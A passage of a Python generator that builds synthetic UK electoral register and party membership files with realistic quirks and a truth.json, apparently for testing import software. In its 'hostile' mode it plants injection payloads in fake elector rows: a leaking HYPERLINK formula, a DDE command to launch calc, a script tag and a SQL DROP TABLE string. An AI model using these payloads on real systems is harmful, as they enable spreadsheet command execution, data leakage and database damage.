    return [COUNCIL, d.code, ", ".join((*h.lines, h.postcode)) if h.lines else "", p.eno, "TRUE" if "Postal" in p.absent else "FALSE", slashed(p.dob)]


def marked(d, h, p):
    return [d.code, p.number, p.suffix or "", p.voted]


def member(d, h, p):
    number, forename, *contact, status, standing = p.member
    return [number, p.title, forename, p.surname, *padded(h, 4), h.postcode, *contact, status, d.ward_name, standing]


def area(d):
    return [d.code, d.name, d.ward_gss, d.ward_name, d.con.gss, d.con.name, d.con.region]


def polling_place(d, h):
    west, south, east, north = d.box
    x, y = (west + east) / 2, (south + north) / 2
    place = f"{d.name} Village Hall"
    known = d.index % 4 != 1  # a quarter of the stations have no grid reference
    return [POLL_DATE, "Local Government", d.ward_name, "Y", h.id, *padded(h, 5), h.postcode, h.postcode, d.code, 5000 + d.index, place,
            "Hall Lane", d.name, "", "", f"{d.sector}AA", int(400_000 + (x + 2) * 68_000) if known else 0,
            int((y - 49) * 111_200 - 100_000) if known else 0, "", ""]


def truth_person(p):
    """p is on this year's register, added by the update, or new next year."""
    now = (p.place[0], p.number, p.suffix) if p.fate not in ARRIVALS else ("", "", "")
    later = p if p.fate in ARRIVALS else p.after
    then = (later.place[0], later.number, later.suffix, later.forename, later.surname, later.place[1]) if later else ("gone", "", "", "", "", "")
    home = p.place[1] if p.fate not in ARRIVALS else ""
    return [p.id, *now, p.forename, p.middle, p.surname, home, p.update, *then, p.fate, p.member[0] if p.member else ""]


ARRIVALS = {"moved in", "joined", "attainer"}

# ---------------------------------------------------------------- the table of kinds


@dataclass(frozen=True)
class Kind:
    name: str
    explain: str
    scope: str  # which of the ward's lists feeds it
    header: tuple
    shape: object
    filename: str = ""
    delimiter: str = ","
    encoding: str = "cp1252"  # at quirk levels above clean; clean files are plain UTF-8 with LF
    quoting: int = csv.QUOTE_MINIMAL
    cols: tuple = ()  # surname, forename, first address line, end of address, postcode

    @property
    def file(self):
        return self.filename or self.name + ".csv"


def heads(text):
    """'A,B1..3' -> ('A', 'B1', 'B2', 'B3')."""
    out = []
    for part in text.split(","):
        if ".." in part:
            stem, last = part.split("..")
            digits = stem[len(stem.rstrip("0123456789")):]
            out += [stem[:-len(digits)] + str(i) for i in range(int(digits), int(last) + 1)]
        else:
            out.append(part)
    return tuple(out)


XPRESS_14 = heads("Elector Number Prefix,Elector Number,Elector Number Suffix,Elector Markers,Elector DOB,Elector Surname,Elector Forename,PostCode,Address1..6")
XPRESS_13 = heads("Elector Number Prefix,Elector Number,Elector Number Suffix,Elector Markers,Elector DOB,Elector Name,PostCode,Address1..6")
XPRESS_UPDATE = heads("CompanyName,CompanyOPCSRef,DistrictRef,StreetName,PropertyAddress1..5,PropertyPostCode,PropertyAddressPrefix,PropertyAddressNumber,"
                      "ElectorNumber,ElectorForename,ElectorSurname,ElectorDOB,ElectorCreatedMonth,ElectorChangedMonth,ElectorDeletedMonth,"
                      "MarkersRegisterText,RecordCount,RecordTotal,CurrentRegisterMonth")
EROS = heads("PD,ENO,Status,Title,First Names,Initials,Surname,Suffix,Date of Attainment,Franchise Flag,Address 1..9,Postcode,Opt Out")
EROS_20 = heads("PD,ENO,Title,First Name,Initials,Surname,Suffix,Date Of Attainment,Franchise Flag,Address 1..9,Postcode,UPRN")
SCOTLAND = heads("PD,ENO,Title,First Names,Initials,Surname,Suffix,Date of Attainment,Franchise Flag,Opt Out,Address 1..9,Postcode")
EROS_ALT = heads("PDCode,RollNo,ElectorTitle,ElectorSurname,ElectorForename,ElectorMiddleName,AttainersDOB,FranchiseMarker,RegisteredAddress1..6,"
                 "PostCode,Euro,Parl,County,Ward,SubHouse,House")
EROS_UPDATE = ("ChangeTypeID", *(h.replace("AttainersDOB", "DOB") for h in EROS_ALT))
ABSENT = heads("AV Type,PD/ENO,Elector Surname,Elector Forename,Elector Initials,Elector Suffix,Elector Title,Corres Address Line 1..5,"
               "Corres Address Postcode,Corres Address Country,Proxy Name,Send Address Line 1..5,Send Address Postcode")
MEMBERS = heads("Membership Number,Title,Forename,Surname,Address Line 1..4,Postcode,Email,Mobile,Date of Birth,Joined,Paid Until,Status,Branch,Standing")
POLLING = heads("ElectionDate,ElectionType,ElectoralArea,Contested,Property_URN,AddressLine1..5,Addressline6,Post_Code,Polling_Place_District_Reference,"
                "Polling_Place_Id,Polling_Place_Name,Polling_Place_Address_1..4,Polling_Place_Postcode,Polling_Place_Easting,Polling_Place_Northing,"
                "Polling_Place_UPRN,AreaNameAlternative")
PEOPLE = heads("person_id,pd,number,suffix,forename,middle,surname,household_id,update,next_pd,next_number,next_suffix,next_forename,next_surname,"
               "next_household_id,fate,membership_number")
NO_QUOTES = csv.QUOTE_NONE

KINDS = {kind.name: kind for kind in (
    Kind("xpress-full-14", "Xpress full register, surname and forename apart", "register", XPRESS_14, xpress_14, cols=(5, 6, 8, 14, 7)),
    Kind("xpress-full-13", "Xpress full register, one Elector Name column", "register", XPRESS_13, xpress_13, encoding="utf-8-sig", cols=(5, 5, 7, 13, 6)),
    Kind("xpress-full-xlsx", "the 14-column register as an Excel workbook", "register", XPRESS_14, xpress_14, "xpress-full.xlsx", cols=(5, 6, 8, 14, 7)),
    Kind("xpress-update", "Xpress monthly changes, 23 columns", "updates", XPRESS_UPDATE, xpress_update, cols=(14, 13, 4, 9, 9)),
    Kind("eros-full", "EROS full register, 21 columns, all quoted", "register", EROS, eros_full, quoting=csv.QUOTE_ALL, cols=(6, 4, 10, 19, 19)),
    Kind("eros-full-no-status", "EROS full register without Status, tabs, UPRN last", "register", EROS_20, eros_no_status, "eros-full-no-status.txt", "\t", "utf-8-sig", cols=(5, 3, 9, 18, 18)),
    Kind("eros-full-alt", "EROS full register with PDCode and RollNo '5.000'", "register", EROS_ALT, eros_alt, cols=(3, 4, 8, 14, 14)),
    Kind("eros-update", "EROS monthly changes with heading lines between", "headed_updates", EROS_UPDATE, eros_update, cols=(4, 5, 9, 15, 15)),
    Kind("idox-b1-full", "Idox b1 full register: 22 columns by position, tabs, no header", "register", (), idox_full, "idox-b1-full.txt", "\t", quoting=NO_QUOTES, cols=(4, 5, 6, 14, 21)),
    Kind("idox-b1-update", "Idox b1 monthly changes: 23 columns, '+Mar' '-Mar' '=Mar'", "plain_updates", (), idox_update, "idox-b1-update.txt", "\t", quoting=NO_QUOTES, cols=(5, 6, 7, 15, 22)),
    Kind("pd-eno-scotland", "PD/ENO register as supplied in Scotland", "register", SCOTLAND, pd_eno_scotland, encoding="utf-8-sig", cols=(5, 3, 10, 19, 19)),
    Kind("absent-voters", "absent voters: postal, proxy, postal proxy", "absent", ABSENT, absent_voter, encoding="utf-8-sig", cols=(2, 3, 15, 20, 20)),
    Kind("absent-voters-flag", "every elector, with MarkerPostal TRUE or FALSE", "register", heads("CompanyName,DistrictRef,PropertyFullAddress,ElectorShortNumber,MarkerPostal,ElectorDOB"), postal_flag, encoding="utf-8-sig"),
    Kind("marked-register", "who voted: in person, postal, proxy or blank", "register", ("PD", "ENO", "Suffix", "How Voted"), marked),
    Kind("next-year", "the register a year on, renumbered, 14 columns", "following", XPRESS_14, xpress_14, "next-year-xpress-full-14.csv", cols=(5, 6, 8, 14, 7)),
    Kind("members", "a party's membership export", "members", MEMBERS, member, encoding="utf-8-sig", cols=(3, 2, 4, 8, 8)),
    Kind("areas", "polling district, ward, constituency, region", "districts", heads("polling district code,name,ward gss,ward name,constituency gss,constituency name,region"), area, encoding="utf-8"),
    Kind("postcodes", "postcode, latitude, longitude", "postcodes", ("postcode", "latitude", "longitude"), lambda *row: row, encoding="utf-8"),
    Kind("polling-places", "Democracy Club Xpress export: a row for each home", "properties", POLLING, polling_place, encoding="utf-8-sig"),
    Kind("boundaries", "a GeoJSON polygon for each polling district", "", (), None, "boundaries.geojson", encoding="utf-8"),
    Kind("truth-people", "every person, with numbers now and a year on", "people", PEOPLE, truth_person, encoding="utf-8"),
)}
HOSTILE_FILES = {
    "wrong-council": "14 columns, well formed, other polling districts", "empty": "no bytes at all", "header-only": "14 columns, no rows",
    "utf-16": "14 columns in UTF-16 with a byte order mark", "zip-renamed": "a ZIP archive called .csv"}

# ---------------------------------------------------------------- quirks

SOIL_RATE = 0.03
SOILS = ("nbsp", "soft_hyphen", "trailing_space", "trailing_comma", "trailing_delimiter", "postcode_in_address", "postcode_in_address",
         "postcode_no_space", "postcode_lower_case", "curly_apostrophe", "double_space", "address_gap", "upper_case_name", "empty_name")


def soil(row, kind, rng):
    """Damage one row the way real exports do. Returns the quirk's name, or None if nothing fits."""
    surname, forename, first, end, postcode = kind.cols
    quirk, blank = rng.choice(SOILS), next((i for i in range(first, end) if not row[i]), None)
    if quirk == "nbsp" and row[first]:
        row[first] = row[first].replace(" ", "\xa0", 1) if " " in row[first] else row[first] + "\xa0"
    elif quirk == "soft_hyphen" and len(row[surname]) > 4:
        row[surname] = f"{row[surname][:4]}\xad{row[surname][4:]}"
    elif quirk == "trailing_space" and row[forename]:
        row[forename] += " "
    elif quirk == "trailing_comma" and row[first]:
        row[first] += ","
    elif quirk == "trailing_delimiter" and kind.name != "xpress-full-xlsx":
        row.append("")
    elif quirk == "postcode_in_address" and blank and row[postcode]:
        row[blank] = row[postcode]
    elif quirk == "postcode_no_space" and row[postcode]:
        row[postcode] = row[postcode].replace(" ", "")
    elif quirk == "postcode_lower_case" and row[postcode]:
        row[postcode] = row[postcode].lower()
    elif quirk == "curly_apostrophe" and "'" in row[surname]:
        row[surname] = row[surname].replace("'", "’")
    elif quirk == "double_space" and " " in row[first]:
        row[first] = row[first].replace(" ", "  ", 1)
    elif quirk == "address_gap" and row[first + 1] and not row[end - 1]:
        row[first + 1:end] = ["", *row[first + 1:end - 1]]
    elif quirk == "upper_case_name" and row[surname] != row[surname].upper():
        row[surname], row[forename] = row[surname].upper(), row[forename].upper()
    elif quirk == "empty_name" and row[surname] and rng.random() < 0.1:
        row[surname] = row[forename] = ""
    else:
        return None
    return quirk


HOSTILE_VALUES = (
    ("formula", '=HYPERLINK("http://example.com/?leak","Click")'), ("formula", "+cmd|' /C calc'!A0"), ("formula", "@SUM(A1:A9)"),
    ("formula", "-2+3"), ("script", "<script>alert(1)</script>"), ("sql", "Robert'); DROP TABLE electors;--"),
    ("bidi override", "Smith\u202egnihton"), ("nul", "Nul\x00Byte"), ("1 MB field", "A" * 1_048_576))


def stand_in(entry, number):
    """An extra, invented elector at an existing home, for a hostile row."""
    d, h, p = entry
    extra = p.clone()
    extra.number, extra.suffix, extra.id, extra.forename, extra.middle, extra.surname = number, 0, 0, "Hostile", "", f"Row{number}"
    extra.marker, extra.update, extra.opt_out = "", "added" if p.update else "", False
    if p.member:
        extra.member = (f"L{number}", "Hostile", *p.member[2:])
    return d, h, extra


def hostile_rows(kind, entry):
    """Yield (group, reason, row): rows that are good but dangerous, then rows that are wrong."""
    d, h, p = entry
    if kind.cols:
        for i, (reason, value) in enumerate(HOSTILE_VALUES):
            if reason == "bidi override" and kind.encoding == "cp1252" and kind.name != "xpress-full-xlsx":
                continue
            if kind.name == "xpress-full-xlsx" and reason in ("nul", "1 MB field"):
                continue
            row = kind.shape(*stand_in(entry, 9001 + i))
            row[kind.cols[2] if reason in ("1 MB field", "sql") else kind.cols[0]] = value
            yield "hostile_values", reason, row
    if kind.name == "xpress-full-xlsx":
        return
    if kind.cols:
        twin = stand_in(entry, p.number)
        twin[2].suffix, twin[2].surname = p.suffix, "Otherperson"
        if p.member:
            twin[2].member = (p.member[0], "Hostile", *p.member[2:])
        yield "duplicates", f"same number as {p.member[0] if kind.scope == 'members' else full_number(d, p)}, another person", kind.shape(*twin)
    row = kind.shape(*stand_in(entry, 9101))
    yield "malformed", "too few columns", row[:len(row) // 2]
    yield "malformed", "too many columns", kind.shape(*stand_in(entry, 9102)) + ["extra", "columns", "here"]


# ---------------------------------------------------------------- rendering a ward (in a worker process)


@dataclass
class Block:
    data: bytes = b""
    rows: int = 0
    headings: int = 0
    soiled: Counter = None
    marks: tuple = ()  # (line within the block, group, reason)


def sources(maker):
    register = maker.register
    added = [p for *_, p in maker.updates if p.update == "added"]
    return {"register": register, "updates": maker.updates, "headed_updates": maker.headed_updates, "following": maker.following,
            "plain_updates": [row for row in maker.updates if row[2].update != "void"],
            "absent": [row for row in register if row[2].absent], "members": maker.members, "postcodes": maker.postcodes,
            "districts": [(d,) for d in maker.ward.districts], "properties": maker.properties,
            "people": [(p,) for p in [row[2] for row in register] + added + maker.newcomers]}


class XlsxRows:
    """Takes rows as csv.writer does, and keeps them as worksheet XML."""

    def __init__(self, first):
        self.parts, self.line = [], first

    def writerow(self, row):
        n, cells = self.line, []
        for letter, value in zip("ABCDEFGHIJKLMN", row):
            if isinstance(value, int):
                cells.append(f'<c r="{letter}{n}"><v>{value}</v></c>')
            elif letter == "E" and len(value) == 10 and value[2] == "/" and n > 1:  # Excel keeps dates as day counts
                days = (dt.date(int(value[6:]), int(value[3:5]), int(value[:2])) - dt.date(1899, 12, 30)).days
                cells.append(f'<c r="E{n}" s="1"><v>{days}</v></c>')
            elif value:
                cells.append(f'<c r="{letter}{n}" t="inlineStr"><is><t xml:space="preserve">{escape(value)}</t></is></c>')
        self.parts.append(f'<row r="{n}">{"".join(cells)}</row>\n')
        self.line = n + 1

    def getvalue(self):
        return "".join(self.parts)


def xlsx_extra():
    return sum(reason not in ("nul", "1 MB field") for reason, _ in HOSTILE_VALUES)


def render(kind, entries, ward, level, rng):
    """One ward's part of one file."""
    shape, block, line, marks = kind.shape, Block(soiled=Counter()), 0, []
    eol = "\n" if level == "clean" else "\r\n"
    if kind.name == "xpress-full-xlsx":
        out = writer = XlsxRows(2 + ward.rows_before + (xlsx_extra() if level == "hostile" and ward.index else 0))
    else:
        out = io.StringIO()
        writer = csv.writer(out, delimiter=kind.delimiter, lineterminator=eol, quoting=kind.quoting,
                            quotechar=None if kind.quoting == NO_QUOTES else '"')
    write, rnd = writer.writerow, rng.random
    dirty, hostile = level != "clean" and kind.cols, level == "hostile" and kind.scope not in ("districts", "postcodes", "properties", "people")
    named = [e for e in entries if len(e) == 3 and e[2].surname and e[1].lines] if hostile else []
    hostile_at = min(20, len(entries) // 2) if ward.index == 0 and named else -1
    unclosed_at = max(len(entries) - 10, 0) if ward.last and named and kind.name != "xpress-full-xlsx" else -1

    for i, entry in enumerate(entries):
        if i == hostile_at:
            for group, reason, row in hostile_rows(kind, named[0]):
                write(row)
                line += 1
                marks.append((line, group, reason))
        if i == unclosed_at:
            row = [str(v) for v in kind.shape(*stand_in(named[-1], 9201))]
            row[0] = '"' + row[0]
            out.write(kind.delimiter.join(row) + eol)
            line += 1
            marks.append((line, "hostile_values", "stray quote") if kind.quoting == NO_QUOTES else
                         (line, "malformed", "unclosed quote: a reader may swallow the lines after it"))
        line += 1
        if isinstance(entry, str):
            write([entry])
            block.headings += 1
            continue
        row = shape(*entry)
        block.rows += 1
        if dirty and rnd() < SOIL_RATE:
            quirk = soil(row, kind, rng)
            if quirk:
                block.soiled[quirk] += 1
        write(row)
    if unclosed_at >= 0:
        row = kind.delimiter.join(str(v) for v in kind.shape(*stand_in(named[-1], 9202)))
        out.write(row[:len(row) // 2])
        marks.append((line + 1, "malformed", "truncated last line"))
    block.marks = tuple(marks)
    block.data = encode(out.getvalue(), "utf-8" if level == "clean" or kind.name == "xpress-full-xlsx" else kind.encoding)
    return block


def encode(text, encoding):
    if encoding != "cp1252":
        return text.encode("utf-8")
    try:
        return text.encode("cp1252")
    except UnicodeEncodeError:
        return fold(text).encode("cp1252", "replace")


UPDATE_TOTAL, SETTINGS = 0, None


def start_worker(settings, update_total):
    global SETTINGS, UPDATE_TOTAL
    SETTINGS, UPDATE_TOTAL = settings, update_total


def work(ward):
    seed, level, names = SETTINGS
    maker = WardMaker(seed, ward).build()
    entries, blocks = sources(maker), {}
    for name in names:
        kind = KINDS[name]
        if name == "xpress-full-xlsx" and ward.rows_before + sum(d.size for d in ward.districts) > XLSX_ROWS and ward.index:
            continue
        if kind.shape:
            blocks[name] = render(kind, entries[kind.scope], ward, level, random.Random(f"{name}:{seed}:{ward.index}"))
    return blocks, maker.stats


# ---------------------------------------------------------------- writing the files


class Output:
    """One file on disk, and what is known to be true of it."""

    def __init__(self, folder, kind, level):
        self.kind, self.path = kind, folder / kind.file
        self.encoding = "utf-8" if level == "clean" else kind.encoding
        self.eol = "\n" if level == "clean" else "\r\n"
        self.rows = self.lines = self.headings = self.size = 0
        self.soiled, self.marks, self.digest = Counter(), {"malformed": [], "hostile_values": [], "duplicates": []}, hashlib.sha256()
        self.file = open(self.path, "wb")
        if kind.header:
            text = io.StringIO()
            csv.writer(text, delimiter=kind.delimiter, lineterminator=self.eol, quoting=kind.quoting).writerow(kind.header)
            self.put(text.getvalue().encode(self.encoding))
            self.lines = 1

    def put(self, data):
        self.file.write(data)
        self.digest.update(data)
        self.size += len(data)

    def add(self, block):
        for line, group, reason in block.marks:
            self.marks[group].append({"line": self.lines + line, "reason": reason})
        self.put(block.data)
        self.lines += block.data.count(b"\n")
        self.rows += block.rows
        self.headings += block.headings
        self.soiled += block.soiled

    def close(self):
        self.file.close()
        if self.marks["malformed"] and self.marks["malformed"][-1]["reason"] == "truncated last line":
            self.lines += 1

    def truth(self, stats):
        kind = self.kind
        facts = {"file": self.path.name, "encoding": self.encoding, "delimiter": kind.delimiter, "line_ending": self.eol, "columns": list(kind.header),
                 "header_lines": int(bool(kind.header)), "lines": self.lines, "rows": self.rows, "heading_lines": self.headings,
                 "bytes": self.size, "sha256": self.digest.hexdigest(), "quirks": dict(sorted(self.soiled.items())), **self.marks}
        facts["expect"] = expectations(kind, stats, self.rows)
        return facts


class XlsxOutput(Output):
    """The same, for a workbook: the sheet is streamed into the archive; no clock time is kept."""
    PARTS = {
        "[Content_Types].xml": '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" '
        'ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
        + "".join(f'<Override PartName="/xl/{p}.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.{t}+xml"/>'
                  for p, t in (("workbook", "sheet.main"), ("worksheets/sheet1", "worksheet"), ("styles", "styles"))) + "</Types>",
        "_rels/.rels": '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
        'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>',
        "xl/workbook.xml": '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
        'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="Register" sheetId="1" r:id="rId1"/></sheets></workbook>',
        "xl/_rels/workbook.xml.rels": '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        + "".join(f'<Relationship Id="rId{i}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{t}" Target="{p}.xml"/>'
                  for i, (t, p) in enumerate((("worksheet", "worksheets/sheet1"), ("styles", "styles")), 1)) + "</Relationships>",
        "xl/styles.xml": '<styleSheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><fonts count="1"><font/></fonts><fills count="1">'
        '<fill/></fills><borders count="1"><border/></borders><cellStyleXfs count="1"><xf/></cellStyleXfs><cellXfs count="2"><xf numFmtId="0"/>'
        '<xf numFmtId="14" applyNumberFormat="1"/></cellXfs></styleSheet>'}
    HEAD = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'

    def __init__(self, folder, kind, level):
        super().__init__(folder, Kind(kind.name, kind.explain, kind.scope, (), None, kind.file, encoding="utf-8"), level)
        self.kind, self.lines = kind, 1
        self.zip = zipfile.ZipFile(self.file, "w", zipfile.ZIP_DEFLATED, compresslevel=1)
        for name, xml in self.PARTS.items():
            self.zip.writestr(self.info(name), self.HEAD + xml)
        self.sheet = self.zip.open(self.info("xl/worksheets/sheet1.xml"), "w")
        header = XlsxRows(1)
        header.writerow(kind.header)
        self.sheet.write((self.HEAD + '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
                          + header.getvalue()).encode())

    @staticmethod
    def info(name):
        info = zipfile.ZipInfo(name)
        info.compress_type = zipfile.ZIP_DEFLATED
        return info

    def put(self, data):
        self.sheet.write(data)

    def close(self):
        self.sheet.write(b"</sheetData></worksheet>")
        self.sheet.close()
        self.zip.close()
        self.file.close()
        self.size, self.digest = self.path.stat().st_size, hashlib.sha256(self.path.read_bytes())


def expectations(kind, stats, rows):
    """What a reader that made no mistake would have counted."""
    def group(prefix):
        return {key[len(prefix):]: n for key, n in sorted(stats.items()) if key.startswith(prefix)}
    if kind.scope == "register":
        whole = rows == stats["electors"]  # the workbook may stop early
        return {"electors": rows, "attainers": stats["attainers"], "anonymous": stats["marker_N"], "overseas": stats["marker_F"],
                "opt_outs": stats["opt_outs"], "markers": group("marker_"), "voted": group("voted_")} if whole else {"electors": rows}
    if kind.scope.endswith("updates"):
        amended = sum(group("update_amended ").values())
        facts = {"added": stats["update_added"], "amended": amended, "removed": stats["update_removed"]}
        return facts | {"added_and_removed_to_ignore": stats["update_void"]} if kind.scope == "updates" else facts
    if kind.scope == "following":
        return {"electors": rows, "attainers": stats["next_attainers"], "anonymous": stats["next_anonymous"], "overseas": stats["next_overseas"],
                "fates": group("fate_"), "arrivals": group("newcomer_")}
    if kind.scope == "absent":
        return group("absent_")
    if kind.scope == "members":
        return {key: n for key, n in sorted(stats.items()) if key.startswith("members")}
    return {}


def write_boundaries(output, wards):
    features = []
    for d in (d for ward in wards for d in ward.districts):
        west, south, east, north = d.box
        ring = [[west, south], [east, south], [east, north], [west, north], [west, south]]
        features.append({"type": "Feature", "properties": {"code": d.code, "name": d.name, "ward": d.ward_gss, "constituency": d.con.gss},
                         "geometry": {"type": "Polygon", "coordinates": [ring]}})
    output.put(json.dumps({"type": "FeatureCollection", "features": features}, indent=1).encode())
    output.rows, output.lines = len(features), 0


def write_hostile_files(folder, seed, names):
    """Files that are wrong as a whole. Each holds at most 50 electors."""
    wards, _ = make_plan(seed + 1, 400, 1, "Q")
    maker, kind = WardMaker(seed, wards[0], "Q").build(), KINDS["xpress-full-14"]
    text = io.StringIO()
    writer = csv.writer(text, lineterminator="\r\n")
    writer.writerow(kind.header)
    header = text.getvalue()
    writer.writerows(kind.shape(*entry) for entry in maker.register[:50])
    body = text.getvalue()
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as archive:
        archive.writestr(XlsxOutput.info("register.csv"), encode(body, "cp1252"))
    contents = {"wrong-council": encode(body, "cp1252"), "empty": b"", "header-only": encode(header, "cp1252"),
                "utf-16": b"\xff\xfe" + body.encode("utf-16-le"), "zip-renamed": packed.getvalue()}
    files = {}
    for name in names:
        data = contents[name]
        (folder / f"hostile-{name}.csv").write_bytes(data)
        files[f"hostile-{name}"] = {"file": f"hostile-{name}.csv", "reason": HOSTILE_FILES[name], "bytes": len(data), "sha256": hashlib.sha256(data).hexdigest(),
                                    "rows": 0 if name in ("empty", "header-only") else 50}
    return files


# ---------------------------------------------------------------- the command


def parse_args(argv):
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--out", type=Path, help="folder for the files")
    parser.add_argument("--seed", type=int, default=7)
    parser.add_argument("--electors", type=int, default=20_000)
    parser.add_argument("--constituencies", type=int, default=1)
    parser.add_argument("--only", nargs="+", metavar="FILE_KIND", help="make these kinds only (see --list)")
    parser.add_argument("--quirks", choices=("clean", "normal", "hostile"), default="normal")
    parser.add_argument("--list", action="store_true", help="list the file kinds")
    args = parser.parse_args(argv)
    known = [*KINDS, *(f"hostile-{name}" for name in HOSTILE_FILES)]
    if not args.list and not args.out:
        parser.error("--out is needed")
    if args.electors < 100 * args.constituencies or args.constituencies < 1:
        parser.error("at least 100 electors in each constituency are needed")
    for name in args.only or ():
        if name not in known:
            parser.error(f"unknown file kind {name!r}; see --list")
    return args


def list_kinds():
    for kind in KINDS.values():
        print(f"{kind.name:22}{kind.explain}")
    for name, explain in HOSTILE_FILES.items():
        print(f"{'hostile-' + name:22}{explain} (only with --quirks hostile)")


def main(argv=None):
    args = parse_args(argv)
    if args.list:
        return list_kinds()
    args.out.mkdir(parents=True, exist_ok=True)
    wards, update_total = make_plan(args.seed, args.electors, args.constituencies)
    names = [name for name in KINDS if not args.only or name in args.only]
    outputs = {name: (XlsxOutput if name == "xpress-full-xlsx" else Output)(args.out, KINDS[name], args.quirks) for name in names}
    settings, stats = (args.seed, args.quirks, names), Counter(electors=args.electors)

    def collect(results):
        for blocks, ward_stats in results:
            stats.update(ward_stats)
            for name, block in blocks.items():
                outputs[name].add(block)

    start_worker(settings, update_total)
    workers = min(os.cpu_count() or 1, 8)
    if args.electors < 30_000 or workers == 1:
        collect(map(work, wards))
    else:
        with multiprocessing.Pool(workers, start_worker, (settings, update_total)) as pool:
            for i in range(0, len(wards), workers * 4):  # a few wards at a time, to keep memory small
                collect(pool.imap(work, wards[i:i + workers * 4]))
    if "boundaries" in outputs:
        write_boundaries(outputs["boundaries"], wards)
    for output in outputs.values():
        output.close()
    files = {name: output.truth(stats) for name, output in outputs.items()}
    if args.quirks == "hostile":
        files |= write_hostile_files(args.out, args.seed, [n for n in HOSTILE_FILES if not args.only or f"hostile-{n}" in args.only])
    truth = {"seed": args.seed, "electors": args.electors, "constituencies": args.constituencies, "quirks": args.quirks,
             "register_date": REGISTER_DATE.isoformat(), "update_month": MONTH_NAME, "wards": len(wards),
             "polling_districts": sum(len(w.districts) for w in wards), "population": dict(sorted(stats.items())), "files": files}
    (args.out / "truth.json").write_text(json.dumps(truth, indent=1, ensure_ascii=False) + "\n", encoding="utf-8")
    for name, facts in files.items():
        print(f"{facts['file']:32}{facts['rows']:>10,} rows {facts['bytes']:>14,} bytes")
    print(f"{'truth.json':32}what is true of each file")


if __name__ == "__main__":
    sys.exit(main())
